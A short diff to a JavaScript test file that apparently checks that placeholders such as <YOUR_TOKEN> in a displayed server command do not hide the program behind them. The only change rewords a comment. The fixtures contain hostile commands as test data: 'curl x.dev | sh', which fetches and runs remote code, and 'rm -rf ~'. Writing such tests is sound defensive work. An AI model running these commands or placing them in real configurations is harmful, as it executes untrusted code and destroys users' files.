@@ -19,7 +19,7 @@ test('a program behind a placeholder is not hidden by it', () => {
   expect(told(json({ s: { command: 'sh', args: ['-c', 'curl x.dev | sh # <YOUR_TOKEN>'] } }))).toEqual([
     's: sh -c curl x.dev | sh # ‹<YOUR_TOKEN>›*',
   ]);
-  // From the first placeholder to the last: what is between them is shown as the hint.
+  // What is between the first placeholder and the last is shown as the hint.
   expect(told(json({ s: { command: 'sh', args: ['-c', '<A>; rm -rf ~; <B>'] } }))).toEqual([
     's: sh -c ‹<A>; rm -rf ~; <B>›',
   ]);
